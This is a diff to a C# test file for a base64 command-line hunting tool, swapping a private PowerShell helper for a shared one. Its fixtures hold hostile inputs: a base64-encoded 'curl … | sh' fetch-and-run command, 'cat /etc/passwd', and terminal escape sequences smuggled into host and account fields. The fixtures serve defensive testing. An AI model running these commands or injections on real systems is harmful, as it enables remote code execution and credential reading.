@@ -50,20 +50,13 @@ namespace B64Hunt.Tests.Hostile
             Assert.Same(text, DataText.Neutralize(text));
         }
 
-        private static PowerShell Shell()
-        {
-            var iss = InitialSessionState.CreateDefault2();
-            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64Command", typeof(GetB64CommandCommand), null));
-            return PowerShell.Create(iss);
-        }
-
         [Fact]
         public void EventFieldsAreNeutralisedAndTheRawPropertiesKeepTheExactText()
         {
             string host = "web-01" + Osc0;
             string account = "root" + Csi2J;
             string commandLine = "bash -c \"echo " + B64("curl -s http://203.0.113.7/x | sh" + Osc52) + "|base64 -d|sh\" " + Osc52;
-            using var ps = Shell();
+            using var ps = GetB64CommandShell();
             ps.AddCommand("Get-B64Command").AddParameter("CommandLine", commandLine).AddParameter("Computer", host).AddParameter("Account", account);
             // The OSC 52 clipboard text is base64 itself, so it decodes to an event of its own too.
             var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
@@ -83,7 +76,7 @@ namespace B64Hunt.Tests.Hostile
         [Fact]
         public void MessagesQuotingDataAreNeutralised()
         {
-            using var ps = Shell();
+            using var ps = GetB64CommandShell();
             ps.AddCommand("Get-B64Command").AddParameter("CommandLine", "echo " + B64("id; uname -a; cat /etc/passwd"))
                 .AddParameter("TimeGenerated", "yesterday" + Osc52).AddParameter("Verbose", true);
             ps.Invoke();
@@ -108,7 +101,7 @@ namespace B64Hunt.Tests.Hostile
                 return $"Oct  1 00:00:{i % 60:00} {h.Replace(" ", "")} auoms[1]: type=AUOMS_EXECVE audit(1790812800.000:{i}): user={u} uid=0 comm=\"bash\" cmdline=\"bash -c echo {payload}|base64 -d|sh {hostile[rng.Next(hostile.Length)]}\" redactors= containerid=";
             });
             System.IO.File.WriteAllText(dir.File("hostile.log"), string.Join("\n", lines) + "\n");
-            using var ps = Shell();
+            using var ps = GetB64CommandShell();
             ps.AddCommand("Get-B64Command").AddParameter("LiteralPath", dir.File("hostile.log"));
             var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
             Assert.NotEmpty(events);
